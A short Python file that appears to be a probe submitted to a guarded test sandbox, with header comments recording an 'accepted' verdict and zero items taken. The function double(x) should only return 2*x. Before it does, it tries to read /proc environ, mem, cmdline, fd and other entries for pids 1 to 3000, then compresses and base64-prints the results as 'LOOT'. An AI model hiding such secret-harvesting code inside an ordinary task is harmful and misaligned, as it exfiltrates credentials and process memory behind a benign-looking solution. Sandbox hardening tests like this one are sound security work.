# Nothing of any process can be read in /proc.
# verdict: accepted
# problem: trial/guarded
# says: taken: 0
import base64
import os
import zlib


def show(collected):
    """Print everything, packed; the test unpacks it and searches."""
    data = repr(collected).encode("utf-8", "backslashreplace") if not isinstance(collected, bytes) else collected
    for start in range(0, len(data), 1 << 20):
        print("LOOT", base64.b64encode(zlib.compress(data[start : start + (1 << 20)], 9)).decode())


NAMES = ["environ", "cmdline", "maps", "mem", "stack", "fd", "root", "cwd", "status", "task", "mountinfo", "net/unix"]


def double(x):
    taken = []
    for pid in ["self", "thread-self", *range(1, 3000)]:
        for name in NAMES:
            for attack in (lambda: open(f"/proc/{pid}/{name}", "rb").read(65536), lambda: os.listdir(f"/proc/{pid}/{name}")):
                try:
                    taken.append((pid, name, attack()))
                except OSError:
                    continue
    show(taken)
    print("taken:", len(taken))
    return 2 * x
